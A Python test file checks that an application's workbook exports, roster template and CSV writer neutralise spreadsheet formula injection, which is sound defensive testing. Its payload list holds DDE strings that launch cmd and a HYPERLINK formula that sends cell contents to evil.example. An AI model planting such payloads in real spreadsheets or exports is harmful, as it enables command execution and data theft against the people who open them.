"""Issue 14.7: user text that looks like a formula is written into every produced workbook as text."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from engine.files.sheets import csv_safe, is_dangerous
from engine.services.applications import eligibility
from engine.services.cases.export import export_cases
from engine.services.cases.submission import submit_case
from engine.services.reference import roster
from engine.store.workspace import Workspace
from tests.support.casehelpers import NATIONAL, open_typical, provincial_office, submitter, write_case
from tests.support.eligibility_support import make_uscc, open_2025_bare

# OWASP's leading characters, each as an attacker would use it.
EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_no_live_formula(path: Path, planted: list[str]) -> None:
    """No cell is a formula; every planted text is there, exactly, as a string flagged as typed text."""
    found = cells(path)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    texts = {c.value: c for c in found if isinstance(c.value, str)}
    for text in planted:
        assert text in texts, (text, path)
        assert texts[text].data_type == "s" and texts[text].quotePrefix, (text, path)
    # and in the raw XML no cell carries a formula element at all
    import zipfile

    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def test_the_screen_matrix_writes_formula_like_names_as_text(ws: Workspace, tmp_path: Path) -> None:
    cycle = open_2025_bare(ws)
    header = "name,kind,division_code,uscc,entity_form,education_level,park_level,founder,email"
    rows = [
        f'"{name.replace(chr(34), chr(34) * 2)}",company,320583,' + make_uscc("91320583", f"MA1C000{i}") + ",llc,,,,"
        for i, name in enumerate(EVIL)
    ]
    f = tmp_path / "roster.csv"
    f.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    out = tmp_path / "matrix.xlsx"
    result = eligibility.screen(ws, cycle, f, out)
    assert [o.name for o in result.organisations] == EVIL
    assert_no_live_formula(out, EVIL)


@pytest.fixture
def evil_cases(ws, clock, tmp_path: Path) -> dict:
    cycle = open_typical(ws, clock)
    jiangsu = provincial_office(ws)
    unit = submitter(ws, EVIL[0], "member-unit")
    submit_case(ws, cycle, jiangsu, write_case(tmp_path, 1, name=EVIL[1][:20], region=EVIL[2], contact=EVIL[3]))
    submit_case(ws, cycle, unit, write_case(tmp_path, 2, name="=1+1", region=EVIL[4]))
    return {"cycle": cycle, "jiangsu": jiangsu, "unit": unit}


@pytest.mark.parametrize("who,table", [("jiangsu", "form"), ("unit", "form"), ("national", "all")])
def test_case_exports_write_formula_like_text_as_text(ws, evil_cases, tmp_path: Path, who: str, table: str) -> None:
    actor = NATIONAL if who == "national" else evil_cases[who]
    out = tmp_path / f"{who}-{table}.xlsx"
    assert export_cases(ws, evil_cases["cycle"], actor, out, table).rows >= 1
    planted = {
        "jiangsu": [EVIL[1][:20], EVIL[2], EVIL[3]],
        "unit": ["=1+1", EVIL[4]],
        "national": [EVIL[0], EVIL[1][:20], EVIL[2], EVIL[3], "=1+1", EVIL[4]],
    }[who]
    assert_no_live_formula(out, planted)


def test_the_roster_template_and_a_round_trip_keep_the_text_exact(ws: Workspace, tmp_path: Path) -> None:
    template = tmp_path / "t.xlsx"
    roster.write_template(template)
    assert [c.coordinate for c in cells(template) if c.data_type == "f"] == []
    # the names a clerk fills in import as typed, with no quote added or lost
    book = openpyxl.load_workbook(template)
    sheet = book["申报单位名录"]
    for i, name in enumerate(EVIL, start=2):  # as a clerk types them: text cells, in the template's rows
        uscc = make_uscc("91320583", f"MA1D000{i}")
        for j, value in enumerate([name, "企业", "320583", uscc, "有限责任公司"], start=1):
            sheet.cell(row=i, column=j).value = value
            sheet.cell(row=i, column=j).data_type = "s"
    book.save(template)
    result = roster.import_roster(ws, template)
    assert [c.name for c in result.created] == EVIL


@pytest.mark.parametrize("text", [*EVIL, "\tcmd", "\r=1", "=", "@"])
def test_csv_fields_that_a_spreadsheet_would_evaluate_get_a_quote(text: str) -> None:
    assert is_dangerous(text) and csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["昆山市人民政府", "1+1", "a=b", "", " =1", "＝1"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not is_dangerous(text) and csv_safe(text) == text
